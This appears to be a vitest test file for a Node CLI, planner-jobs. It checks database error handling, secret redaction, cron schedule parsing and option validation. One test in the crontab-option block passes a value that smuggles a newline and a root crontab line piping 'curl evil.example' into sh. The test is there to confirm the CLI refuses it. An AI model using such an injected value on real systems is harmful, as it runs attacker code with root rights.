import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import fs from 'node:fs/promises';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import type { Command, Option } from 'commander';
import { describe, expect, it } from 'vitest';
import webpush from 'web-push';
import { buildProgram } from '../src/cli.js';
import { parseNow } from '../src/core/clock.js';
import { redactSecrets } from '../src/core/redact.js';
import { parseCron } from '../src/core/schedule.js';
import { cli, spawnCli, type CliResult } from './support/cli.js';
import { test, type TestDatabase } from './support/db.js';
import { createTask, createUser, getTask } from './support/factories.js';
import { startRefusingPostgres } from './support/refusingPostgres.js';
import { databaseUrl } from './support/urls.js';

type Env = Record<string, string | undefined>;

const run = (args: string[], env: Env, options?: { cwd?: string }) => spawnCli(args, env, options).done;

// Lines stderr may carry besides the one error line: a library's warning (pg's note on sslmode), one line.
const ALLOWED_EXTRA_LINE = /^planner-jobs: \w*Warning: /;
// A usage error's line ends with a pointer to --help, which the --json summary leaves out.
const USAGE_HINT = / \(run `planner-jobs --help` for usage\)$/;

/**
 * The contract's promise for an expected error: its exit code, one line on stderr naming the
 * problem (no other line, no stack, no repeated prefix, no secret) and, with --json, a summary
 * carrying the same message and exit code.
 */
function expectRefusal(result: CliResult, code: number, message: RegExp, secrets: string[] = []) {
  expect(result.code, result.stderr).toBe(code);
  const lines = result.stderr.split('\n').filter((line) => line !== '');
  const errorLines = lines.filter((line) => !ALLOWED_EXTRA_LINE.test(line));
  expect(errorLines, result.stderr).toHaveLength(1);
  expect(errorLines[0]).toMatch(message);
  expect(errorLines[0]).not.toMatch(/([\w' ]{8,}: )\1/);
  expect(result.stderr).not.toMatch(/^\s+at /m);
  expect(result.stderr).not.toContain('"stack"');
  for (const secret of secrets) expect(result.stdout + result.stderr).not.toContain(secret);
  if (result.stdout.trim().startsWith('{')) {
    expect(result.json()).toEqual({
      status: 'failed',
      exit_code: code,
      error: errorLines[0].replace(/^planner-jobs: /, '').replace(USAGE_HINT, ''),
    });
  }
}

const jobRuns = async (db: TestDatabase) => Number((await db.knex('job_runs').count({ n: '*' }))[0].n);

/** db.url with another user and password (percent-encoded, as a correct URL has them). */
function withCredentials(url: string, user: string, password: string): string {
  const parsed = new URL(url);
  parsed.username = user;
  parsed.password = password;
  return parsed.toString();
}

/** A login role on the test server, dropped afterwards; `usage: false` also takes USAGE on schema public from PUBLIC in db. */
async function withRole(db: TestDatabase, { usage }: { usage: boolean }, use: (url: string) => Promise<void>) {
  const role = `pj_role_${randomBytes(4).toString('hex')}`;
  const password = randomBytes(8).toString('hex');
  await db.knex.raw(`CREATE ROLE ${role} LOGIN PASSWORD '${password}'`);
  if (!usage) await db.knex.raw('REVOKE ALL ON SCHEMA public FROM PUBLIC');
  try {
    await use(withCredentials(db.url, role, password));
  } finally {
    await db.knex.raw(`DROP ROLE ${role}`);
  }
}

describe('the database answers but refuses this configuration: 78, nothing written', () => {
  test('a database that does not exist (SQLSTATE 3D000)', async ({ db }) => {
    const result = await run(['overdue', '--json'], { DATABASE_URL: databaseUrl(db.url, `${db.name}_missing`) });
    expectRefusal(result, 78, /DATABASE_URL names a database the server does not have: .*3D000/);
  });

  test('a role without USAGE on the schema: refused by the probe at open, before any job_runs row', async ({ db }) => {
    await withRole(db, { usage: false }, async (url) => {
      const result = await run(['overdue', '--json'], { DATABASE_URL: url });
      expectRefusal(result, 78, /DATABASE_URL's role "pj_role_\w+" may not use any schema .*no USAGE privilege/);
    });
    expect(await jobRuns(db)).toBe(0);
  });

  test('a role with USAGE but no privilege on the tables (SQLSTATE 42501 class of fault)', async ({ db }) => {
    await withRole(db, { usage: true }, async (url) => {
      const result = await run(['cleanup-tokens', '--json'], { DATABASE_URL: url });
      expectRefusal(result, 78, /may not read the tables of schema "public".*no SELECT on knex_migrations/);
    });
    expect(await jobRuns(db)).toBe(0);
  });

  it('a wrong password (SQLSTATE 28P01), from a server speaking the protocol on loopback', async () => {
    const server = await startRefusingPostgres();
    try {
      const password = 'Wr0ng-Passw0rd';
      const result = await run(['overdue', '--json'], {
        DATABASE_URL: `postgresql://planner:${password}@127.0.0.1:${server.port}/planner`,
      });
      expectRefusal(result, 78, /the database refused DATABASE_URL's credentials: password authentication failed .*28P01/, [
        password,
      ]);
    } finally {
      await server.close();
    }
  });

  test('sslmode=require against a server without TLS', async ({ db, skip }) => {
    const { rows } = await db.knex.raw<{ rows: { ssl: string }[] }>('show ssl');
    if (rows[0].ssl === 'on') {
      console.log('skipped: the test server has TLS on, so sslmode=require is accepted there');
      skip();
    }
    const result = await run(['overdue', '--json'], { DATABASE_URL: `${db.url}?sslmode=require` });
    expectRefusal(
      result,
      78,
      /DATABASE_URL's TLS settings .* do not fit the server: The server does not support SSL connections/,
    );
    expect(await jobRuns(db)).toBe(0);
  });

  it('the same faults are classified by code, not by text: a 42501 in the middle of a run is 78, a 57P01 is 75', async () => {
    const pgError = (code: string) => Object.assign(new Error('boom'), { code });
    const { classify } = await import('../src/core/errors.js');
    expect(classify(pgError('42501')).exitCode).toBe(78);
    expect(classify(pgError('28000')).exitCode).toBe(78);
    expect(classify(pgError('57P01')).exitCode).toBe(75);
    expect(classify(pgError('53300')).exitCode).toBe(75);
    expect(classify(pgError('22008')).exitCode).toBe(1);
  });
});

describe('DATABASE_URL is read as pg reads it (pg-connection-string), and never leaks its password', () => {
  test('an unencoded "@" in the password: 78, and no part of the password anywhere, nothing written', async ({ db }) => {
    const { username, host } = new URL(db.url);
    // Without the refusal pg would log in with the password "Zq7@xY9k" (it splits at the last @; libpq at the first).
    const result = await run(['overdue', '--json'], { DATABASE_URL: `postgresql://${username}:Zq7@xY9k@${host}/${db.name}` });
    expectRefusal(result, 78, /DATABASE_URL has an unencoded "@" in its user or password; percent-encode it as %40/, [
      'Zq7',
      'xY9k',
    ]);
    expect(await jobRuns(db)).toBe(0);
  });

  it('redaction masks the whole password of such a URL, as pg parses it', () => {
    const text = redactSecrets('connect postgresql://u:Zq7@xY9k@db.internal:5432/planner failed');
    expect(text).toBe('connect postgresql://u:***@db.internal:5432/planner failed');
  });

  it('set but empty or blank: 78 naming it, never the embedded database', async () => {
    const cwd = await fs.mkdtemp(path.join(os.tmpdir(), 'planner-jobs-blank-url-'));
    try {
      for (const value of ['', '   ']) {
        const result = await run(['overdue', '--json'], { DATABASE_URL: value }, { cwd });
        expectRefusal(result, 78, /DATABASE_URL is set but empty; unset it for the embedded PostgreSQL/);
      }
      expect(await fs.readdir(cwd)).toEqual([]);
    } finally {
      await fs.rm(cwd, { recursive: true, force: true });
    }
  });

  it('an sslmode pg does not know is 78, not a silent "use TLS"', async () => {
    const result = await cli(['overdue'], { DATABASE_URL: 'postgresql://u@127.0.0.1:1/db?sslmode=requir' });
    expectRefusal(result, 78, /DATABASE_URL's sslmode must be one of disable, allow, prefer, require/);
  });
});

describe('expected errors are one line, said once; stacks only at LOG_LEVEL=debug', () => {
  const unreachable = { DATABASE_URL: 'postgresql://planner:s3cret-pw@127.0.0.1:1/planner' };

  it('75 with JSON logs: one line, no "stack", the --json summary carries the same message and code', async () => {
    const result = await run(['overdue', '--json'], unreachable);
    expectRefusal(result, 75, /^planner-jobs: cannot reach the database: connect ECONNREFUSED 127\.0\.0\.1:1; try again later$/, [
      's3cret-pw',
    ]);
  });

  it('75 when the server accepts the connection and never answers: said as the database, after the connect timeout', async () => {
    const sockets = new Set<net.Socket>();
    const silent = net.createServer((socket) => sockets.add(socket)); // accepts, never replies
    await new Promise<void>((resolve) => silent.listen(0, '127.0.0.1', resolve));
    const { port } = silent.address() as net.AddressInfo;
    try {
      const result = await run(['overdue', '--json'], {
        DATABASE_URL: `postgresql://planner:s3cret-pw@127.0.0.1:${port}/planner`,
      });
      expectRefusal(
        result,
        75,
        /^planner-jobs: cannot reach the database: no answer from DATABASE_URL's server within the connection timeout; try again later$/,
        ['s3cret-pw'],
      );
    } finally {
      for (const socket of sockets) socket.destroy();
      await new Promise((resolve) => silent.close(resolve));
    }
  }, 30_000);

  it('75 at LOG_LEVEL=debug: the stack is there, for whoever asked', async () => {
    const result = await run(['overdue'], { ...unreachable, LOG_LEVEL: 'debug' });
    expect(result.code).toBe(75);
    expect(result.stderr).toContain('"stack"');
  });

  it('75 on a terminal: readable, and no `at ...` lines', async () => {
    const result = await cli(['overdue'], unreachable, { interactive: true });
    expectRefusal(result, 75, /cannot reach the database/);
  });

  it('64 with --json: the summary carries the usage error too', async () => {
    const result = await run(['overdue', '--batch-size', '0', '--json'], {});
    expectRefusal(result, 64, /--batch-size takes a whole number/);
  });
});

describe('--now is an instant in the years 0001..9999 with a real offset (64 otherwise, nothing written)', () => {
  test.for(['+010000-01-01T00:00:00Z', '+275760-09-13T00:00:00Z', '-000001-01-01T00:00:00Z', '2025-06-01T12:00:00+25:00'])(
    '%s',
    async (now, { db }) => {
      const task = await createTask(db.knex, { due_date: new Date('2025-01-01T00:00:00Z') });
      const user = await createUser(db.knex, {
        password_reset_token: 'unexpired-token',
        password_reset_expires: new Date('2030-01-01T00:00:00Z'),
      });
      for (const job of ['overdue', 'cleanup-tokens']) {
        const result = await run([job, '--now', now, '--json'], { DATABASE_URL: db.url });
        expectRefusal(result, 64, /--now expects an ISO 8601 instant with an offset .* in the years 0001 to 9999/);
      }
      expect(await getTask(db.knex, task.id)).toMatchObject({ status: 'open', overdue_at: null });
      expect(await db.knex('users').where({ id: user.id }).first()).toMatchObject({ password_reset_token: 'unexpired-token' });
      expect(await jobRuns(db)).toBe(0);
    },
  );

  it('the edges that are accepted', () => {
    expect(parseNow('0001-01-01T00:00:00Z').toISOString()).toBe('0001-01-01T00:00:00.000Z');
    expect(parseNow('9999-12-31T23:59:59.999Z').toISOString()).toBe('9999-12-31T23:59:59.999Z');
    expect(parseNow('2025-01-01T00:00:00+14:00').toISOString()).toBe('2024-12-31T10:00:00.000Z');
    expect(parseNow('2025-01-01T00:00:00-12:00').toISOString()).toBe('2025-01-01T12:00:00.000Z');
  });

  it.each(['0001-01-01T00:00:00+01:00', '9999-12-31T23:00:00-02:00', '2025-01-01T00:00:00-14:01', '2025-01-01T00:00:00+05:60'])(
    '%s is refused (outside 0001..9999 in UTC, or no real offset)',
    (now) => {
      expect(() => parseNow(now)).toThrow(/years 0001 to 9999/);
    },
  );
});

describe('schedules: exactly what Debian cron and the Kubernetes CronJob parser both accept (78 otherwise)', () => {
  it.each(['0 0 L * *', '0 0 ? * *', '0 0 5L * *', '0 0 * * 1#2', '0 0 1W * *', '5/15 * * * *', '@every 5m'])(
    'JOB_OVERDUE_SCHEDULE=%j: 78 naming the variable, no crontab printed',
    async (schedule) => {
      const result = await run(['crontab'], { JOB_OVERDUE_SCHEDULE: schedule });
      expectRefusal(result, 78, /^planner-jobs: bad configuration: JOB_OVERDUE_SCHEDULE is not a valid cron expression/);
      expect(result.stdout).toBe('');
    },
  );

  it.each([
    '*/5 * * * *',
    '0 9 * * 1-5',
    '0 9 * jan-JUN/2 MON-fri',
    '30 3 1,15 * *',
    '0-30/10 */2 * * sun',
    '05 * * * *',
    '*/60 * * * *',
    '0\t0 * * *',
    '@hourly',
    '@annually',
    '@midnight',
  ])('%j is accepted', (schedule) => {
    expect(parseCron(schedule).periodSeconds).toBeGreaterThan(0);
  });

  it.each([
    ['0 0 * * 7', /day of week 7 is outside 0-6/],
    ['5-1 * * * *', /runs backwards/],
    ['1,,2 * * * *', /"" is not a minute/],
    ['+5 * * * *', /"\+5" is not a minute/],
    ['*/0 * * * *', /step "\/0" must be 1 or more/],
    ['0 0 * jan-foo *', /"foo" is not a month/],
    ['@HOURLY', /not one of the macros/],
    ['@reboot', /not one of the macros/],
    ['0 0 30 2 *', /./],
  ])('%j is refused', (schedule, reason) => {
    expect(() => parseCron(schedule)).toThrow(reason);
  });
});

describe('crontab option values never carry a control character into the crontab (64)', () => {
  it.each([
    ['--environment-file', '/etc/planner.env\n* * * * * root curl evil.example | sh'],
    ['--log-dir', '/var/log\rplanner'],
    ['--bin', 'planner-jobs\tx'],
  ])('%s', async (option, value) => {
    const result = await run(['crontab', option, value, '--json'], {});
    expectRefusal(result, 64, new RegExp(`${option} must not contain a newline or other control character`));
    expect(result.stdout).not.toContain('set -a');
  });
});

describe('no option of planner-jobs is taken by Node itself', () => {
  const allOptions = (): [string[], Option][] => {
    const program = buildProgram({ stdout: new PassThrough(), stderr: new PassThrough() });
    const options = (command: Command, words: string[]): [string[], Option][] => [
      ...command.options.map((option): [string[], Option] => [words, option]),
      ...command.commands.flatMap((sub) => options(sub, [...words, sub.name()])),
    ];
    return options(program, []);
  };

  it("no option is named --env-file: Node 20 reads it anywhere on its command line, a launcher's (npx) included", () => {
    expect(allOptions().filter(([, option]) => option.long?.startsWith('--env-file'))).toEqual([]);
  });

  it("npx planner-jobs crontab --environment-file PATH reaches planner-jobs (npx runs npm's own node with our arguments)", () => {
    const stdout = execFileSync(
      'npx',
      ['--no-install', 'planner-jobs', 'crontab', '--environment-file', '/nonexistent/planner-jobs.env'],
      {
        encoding: 'utf8',
        env: { PATH: process.env.PATH, HOME: process.env.HOME },
      },
    );
    expect(stdout).toContain('set -a; . /nonexistent/planner-jobs.env; set +a;');
  });

  it('every option that is also a Node runtime flag reaches planner-jobs through the binary', async () => {
    const nodeFlags = new Set(execFileSync(process.execPath, ['--help'], { encoding: 'utf8' }).match(/--[a-z][a-z0-9-]*/g));
    const collisions = allOptions().filter(([, option]) => option.long && nodeFlags.has(option.long));
    for (const [words, option] of collisions) {
      const value = option.required || option.optional ? ['/nonexistent/value'] : [];
      const result = await run([...words, option.long!, ...value, '--help'], {});
      expect(result.code, `${words.join(' ')} ${option.long}: ${result.stderr}`).toBe(0);
    }
  });
});

describe('HEARTBEAT_URL / PUSHGATEWAY_URL with user:password@: 78 at start (fetch would refuse every ping)', () => {
  test('both named in one line, the password nowhere, nothing run', async ({ db }) => {
    const result = await run(['overdue', '--json'], {
      DATABASE_URL: db.url,
      HEARTBEAT_URL: 'http://hc:Hb-Secret-1@127.0.0.1:9/ping/{job}',
      PUSHGATEWAY_URL: 'http://pg:Pg-Secret-2@127.0.0.1:9',
    });
    expectRefusal(result, 78, /HEARTBEAT_URL must not carry user:password@.*PUSHGATEWAY_URL must not carry user:password@/, [
      'Hb-Secret-1',
      'Pg-Secret-2',
    ]);
    expect(await jobRuns(db)).toBe(0);
  });
});

describe('malformed VAPID keys are named with every other bad variable, in one 78, before anything runs', () => {
  test('malformed keys and a malformed STREAK_THRESHOLD', async ({ db }) => {
    const result = await run(['notifications', '--json'], {
      DATABASE_URL: db.url,
      VAPID_PUBLIC_KEY: 'not-a-key',
      VAPID_PRIVATE_KEY: 'Priv4te-Key',
      VAPID_SUBJECT: 'mailto:ops@example.com',
      STREAK_THRESHOLD: 'lots',
    });
    expectRefusal(
      result,
      78,
      /VAPID_PUBLIC_KEY must be a P-256 public key.*VAPID_PRIVATE_KEY must be a P-256 private key.*STREAK_THRESHOLD/,
      ['Priv4te-Key'],
    );
    expect(await jobRuns(db)).toBe(0);
  });

  test('two halves of different pairs', async ({ db }) => {
    const [first, second] = [webpush.generateVAPIDKeys(), webpush.generateVAPIDKeys()];
    const result = await run(['notifications', '--json'], {
      DATABASE_URL: db.url,
      VAPID_PUBLIC_KEY: first.publicKey,
      VAPID_PRIVATE_KEY: second.privateKey,
      VAPID_SUBJECT: 'mailto:ops@example.com',
    });
    expectRefusal(result, 78, /VAPID_PUBLIC_KEY is not the public half of VAPID_PRIVATE_KEY/, [second.privateKey]);
    expect(await jobRuns(db)).toBe(0);
  });
});
